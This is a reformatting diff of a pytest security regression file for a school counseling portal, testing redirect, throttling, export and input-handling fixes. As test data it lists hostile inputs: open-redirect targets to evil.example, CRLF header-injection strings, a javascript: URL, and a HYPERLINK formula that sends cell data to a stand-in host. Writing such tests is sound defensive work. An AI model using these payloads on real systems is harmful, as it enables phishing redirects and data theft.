@@ -16,9 +16,9 @@ from .test_stepup import stale
 
 # --- #2: a query parameter became the HTTP status -------------------------------------------
 
+
 @pytest.mark.parametrize("value", ["draft", "draft\r\nX-Injected: 1", "0 draft"])
-def test_issue15_2_status_filter_is_a_filter_not_the_http_status(client, login, followup,
-                                                                 value):
+def test_issue15_2_status_filter_is_a_filter_not_the_http_status(client, login, followup, value):
     login(followup.counselor)
     response = client.get("/plans/", query_string={"status": value})
     assert response.status_code == 200
@@ -38,9 +38,17 @@ def test_issue15_2_no_template_variable_can_become_a_response_argument(app):
 
 # --- #5: open redirect ----------------------------------------------------------------------
 
-HOSTILE_NEXT = ["/%09/evil.example", "/\t/evil.example", "/\\evil.example", "//evil.example",
-                "https://evil.example/", "/\r\n/evil.example", "java\tscript:alert(1)",
-                " //evil.example", "/%0d%0aSet-Cookie:x=1"]
+HOSTILE_NEXT = [
+    "/%09/evil.example",
+    "/\t/evil.example",
+    "/\\evil.example",
+    "//evil.example",
+    "https://evil.example/",
+    "/\r\n/evil.example",
+    "java\tscript:alert(1)",
+    " //evil.example",
+    "/%0d%0aSet-Cookie:x=1",
+]
 
 
 REDIRECT_KIND = "open redirect: hostile next= on log-in, confirm, language"
@@ -51,8 +59,11 @@ def _stays_here(location: str) -> bool:
 
     cleaned = location.replace("\t", "").replace("\r", "").replace("\n", "")
     parts = urlsplit(cleaned.replace("\\", "/"))
-    return not parts.netloc.strip("/") and parts.netloc in ("", "localhost") and (
-        cleaned.startswith("/") and not cleaned.startswith("//"))
+    return (
+        not parts.netloc.strip("/")
+        and parts.netloc in ("", "localhost")
+        and (cleaned.startswith("/") and not cleaned.startswith("//"))
+    )
 
 
 @pytest.mark.parametrize("target", HOSTILE_NEXT)
@@ -60,8 +71,11 @@ def test_issue15_5_login_next_never_leaves_the_site(client, make, target, tally)
     make.user("R501", role="counselor")
     from urllib.parse import unquote
 
-    response = client.post("/login", query_string={"next": unquote(target)},
-                           data={"username": "R501", "password": TEST_PASSWORD})
+    response = client.post(
+        "/login",
+        query_string={"next": unquote(target)},
+        data={"username": "R501", "password": TEST_PASSWORD},
+    )
     assert response.status_code == 303
     assert _stays_here(response.headers["Location"]), response.headers["Location"]
     tally.update(kind=REDIRECT_KIND, tried=1, refused=1)
@@ -69,15 +83,19 @@ def test_issue15_5_login_next_never_leaves_the_site(client, make, target, tally)
 
 def test_issue15_5_login_next_keeps_a_path_on_this_site(client, make):
     make.user("R502", role="counselor")
-    response = client.post("/login?next=/students/%3Fq%3D1",
-                           data={"username": "R502", "password": TEST_PASSWORD})
+    response = client.post(
+        "/login?next=/students/%3Fq%3D1", data={"username": "R502", "password": TEST_PASSWORD}
+    )
     assert response.headers["Location"] == "/students/?q=1"
 
 
 def test_issue15_5_newline_in_next_is_not_a_500_after_login(client, make):
     make.user("R503", role="counselor")
-    response = client.post("/login", query_string={"next": "/\n/evil.example"},
-                           data={"username": "R503", "password": TEST_PASSWORD})
+    response = client.post(
+        "/login",
+        query_string={"next": "/\n/evil.example"},
+        data={"username": "R503", "password": TEST_PASSWORD},
+    )
     assert response.status_code == 303 and _stays_here(response.headers["Location"])
 
 
@@ -86,8 +104,9 @@ def test_issue15_5_confirm_next_never_leaves_the_site(client, make, login, targe
     from urllib.parse import unquote
 
     login(make.user(role="counselor"))
-    response = client.post("/confirm", query_string={"next": unquote(target)},
-                           data={"password": TEST_PASSWORD})
+    response = client.post(
+        "/confirm", query_string={"next": unquote(target)}, data={"password": TEST_PASSWORD}
+    )
     assert response.status_code == 303 and _stays_here(response.headers["Location"])
     tally.update(kind=REDIRECT_KIND, tried=1, refused=1)
 
@@ -103,11 +122,15 @@ def test_issue15_5_language_switch_never_leaves_the_site(client, target, tally):
 
 # --- #7: /password was an unlimited guessing oracle -------------------------------------------
 
+
 def test_issue15_7_change_password_is_throttled_like_log_in(client, make, login, db):
     user = make.user("R701", role="counselor")
     login(user)
-    wrong = {"current": "not my password", "new": "a new long passphrase", "confirm":
-             "a new long passphrase"}
+    wrong = {
+        "current": "not my password",
+        "new": "a new long passphrase",
+        "confirm": "a new long passphrase",
+    }
     for _ in range(5):
         assert client.post("/password", data=wrong).status_code == 422
     right = {**wrong, "current": TEST_PASSWORD}
@@ -119,6 +142,7 @@ def test_issue15_7_change_password_is_throttled_like_log_in(client, make, login,
 
 
 # --- #10: log-in time told whether a name exists ----------------------------------------------
+
 
 def test_issue15_10_unknown_name_costs_the_same_argon2_work(client, make, monkeypatch):
     make.user("R1001", role="counselor")
@@ -138,23 +162,36 @@ def test_issue15_10_unknown_name_costs_the_same_argon2_work(client, make, monkey
 
 # --- the throttle per account, whatever the address -----------------------------------------
 
+
 def test_issue15_rotating_the_address_does_not_reset_the_account_throttle(app, client, make):
     make.user("R1101", role="counselor")
     limit = app.config["LOGIN_ACCOUNT_MAX_FAILURES"]
     for n in range(limit):
-        answer = client.post("/login", data={"username": "R1101", "password": "bad"},
-                             environ_base={"REMOTE_ADDR": f"10.0.{n // 200}.{n % 200 + 1}"})
+        answer = client.post(
+            "/login",
+            data={"username": "R1101", "password": "bad"},
+            environ_base={"REMOTE_ADDR": f"10.0.{n // 200}.{n % 200 + 1}"},
+        )
         assert answer.status_code == 200
-    response = client.post("/login", data={"username": "R1101", "password": TEST_PASSWORD},
-                           environ_base={"REMOTE_ADDR": "192.168.77.77"})
+    response = client.post(
+        "/login",
+        data={"username": "R1101", "password": TEST_PASSWORD},
+        environ_base={"REMOTE_ADDR": "192.168.77.77"},
+    )
     assert response.status_code == 429
     page = response.get_data(as_text=True)
     assert "该账号失败次数过多" in page and "之后再试" in page  # the unlock time, in words
     assert int(response.headers["Retry-After"]) > 0
     # another account is not affected
     make.user("R1102", role="counselor")
-    assert client.post("/login", data={"username": "R1102", "password": TEST_PASSWORD},
-                       environ_base={"REMOTE_ADDR": "192.168.77.77"}).status_code == 303
+    assert (
+        client.post(
+            "/login",
+            data={"username": "R1102", "password": TEST_PASSWORD},
+            environ_base={"REMOTE_ADDR": "192.168.77.77"},
+        ).status_code
+        == 303
+    )
 
 
 def test_issue15_account_throttle_ends_when_the_window_passes(app, client, make, db):
@@ -164,16 +201,26 @@ def test_issue15_account_throttle_ends_when_the_window_passes(app, client, make,
 
     make.user("R1103", role="counselor")
     for n in range(app.config["LOGIN_ACCOUNT_MAX_FAILURES"]):
-        client.post("/login", data={"username": "R1103", "password": "bad"},
-                    environ_base={"REMOTE_ADDR": f"10.1.0.{n + 1}"})
+        client.post(
+            "/login",
+            data={"username": "R1103", "password": "bad"},
+            environ_base={"REMOTE_ADDR": f"10.1.0.{n + 1}"},
+        )
     for failure in db.session.query(LoginFailure).filter(LoginFailure.key.like("r1103|%")):
         failure.at -= app.config["LOGIN_FAILURE_WINDOW"] + timedelta(seconds=1)
     db.session.commit()
-    assert client.post("/login", data={"username": "R1103", "password": TEST_PASSWORD},
-                       environ_base={"REMOTE_ADDR": "10.1.0.99"}).status_code == 303
+    assert (
+        client.post(
+            "/login",
+            data={"username": "R1103", "password": TEST_PASSWORD},
+            environ_base={"REMOTE_ADDR": "10.1.0.99"},
+        ).status_code
+        == 303
+    )
 
 
 # --- TRUSTED_PROXIES --------------------------------------------------------------------------
+
 
 def _address_seen(config: dict, forwarded: str) -> str:
     from portal import create_app
@@ -190,9 +237,15 @@ def _address_seen(config: dict, forwarded: str) -> str:
         return request.remote_addr
 
     app.add_url_rule("/_address", "address_probe", address)
-    return app.test_client().get(
-        "/_address", headers={"X-Forwarded-For": forwarded},
-        environ_base={"REMOTE_ADDR": "10.0.0.1"}).get_data(as_text=True)
+    return (
+        app.test_client()
+        .get(
+            "/_address",
+            headers={"X-Forwarded-For": forwarded},
+            environ_base={"REMOTE_ADDR": "10.0.0.1"},
+        )
+        .get_data(as_text=True)
+    )
 
 
 def test_issue15_trusted_proxies_give_the_real_client_address():
@@ -204,19 +257,21 @@ def test_issue15_trusted_proxies_give_the_real_client_address():
 
 # --- page= beyond 64 bits, negative or garbage --------------------------------------------------
 
-@pytest.mark.parametrize("page", ["99999999999999999999999", "-1", "0", "abc", "1e9",
-                                  "18446744073709551617"])
+
+@pytest.mark.parametrize(
+    "page", ["99999999999999999999999", "-1", "0", "abc", "1e9", "18446744073709551617"]
+)
 def test_issue15_page_out_of_range_is_a_400_never_a_500(client, make, login, page, tally):
     login(make.user(role="admin"))
     response = client.get("/admin/users", query_string={"page": page})
     assert response.status_code == 400
     assert "页码" in response.get_data(as_text=True)
-    tally.update(kind="page numbers beyond 64 bits, negative or not a number", tried=1,
-                 refused=1)
+    tally.update(kind="page numbers beyond 64 bits, negative or not a number", tried=1, refused=1)
     assert client.get("/admin/users", query_string={"page": "1"}).status_code == 200
 
 
 # --- #11: the initial-password workbook ---------------------------------------------------------
+
 
 def _accounts_setup(make):
     school_class = make.school_class()
@@ -247,8 +302,7 @@ def test_issue15_11_initial_passwords_are_audited_with_their_count(client, make,
     assert event.detail.startswith("rows=3 ") and event.user_id == secretary.id
 
 
-def test_issue15_11_initial_passwords_count_toward_the_export_limit(app, client, make, login,
-                                                                   db):
+def test_issue15_11_initial_passwords_count_toward_the_export_limit(app, client, make, login, db):
     from portal.core.models.base import utcnow
 
     school_class, secretary = _accounts_setup(make)
@@ -263,21 +317,44 @@ def test_issue15_11_initial_passwords_count_toward_the_export_limit(app, client,
 
 # --- formula injection in every xlsx --------------------------------------------------------
 
+
 def test_issue15_export_cells_that_start_a_formula_get_a_quote(app):
     from portal.core.export import Sheet, workbook_bytes
 
-    values = ['=HYPERLINK("http://x/?"&A2,"点此")', "+1+2", "-2+3", "@SUM(A1)", "\t=1",
-              "\r=1", "-", "-5", "+86", "张三", "a=b", "名字\x07"]
+    values = [
+        '=HYPERLINK("http://x/?"&A2,"点此")',
+        "+1+2",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "-",
+        "-5",
+        "+86",
+        "张三",
+        "a=b",
+        "名字\x07",
+    ]
     with app.app_context():
         book = workbook_bytes([Sheet("t", ["v"], [[v] for v in values])])
-    cells = [row[0] for row in load_workbook(book).active.iter_rows(min_row=2,
-                                                                     values_only=True)]
+    cells = [row[0] for row in load_workbook(book).active.iter_rows(min_row=2, values_only=True)]
     assert cells[4].startswith("'\t") and cells[5].startswith("'")  # tab, CR kept after the '
-    assert cells[:4] + cells[6:] == ["'=HYPERLINK(\"http://x/?\"&A2,\"点此\")", "'+1+2", "'-2+3",
-                                     "'@SUM(A1)", "-", "-5", "+86", "张三", "a=b", "名字"]
+    assert cells[:4] + cells[6:] == [
+        '\'=HYPERLINK("http://x/?"&A2,"点此")',
+        "'+1+2",
+        "'-2+3",
+        "'@SUM(A1)",
+        "-",
+        "-5",
+        "+86",
+        "张三",
+        "a=b",
+        "名字",
+    ]
 
 
 # --- Server header ----------------------------------------------------------------------------
+
 
 def test_issue15_server_header_names_no_framework(client):
     for response in (client.get("/login"), client.get("/no-such-page")):
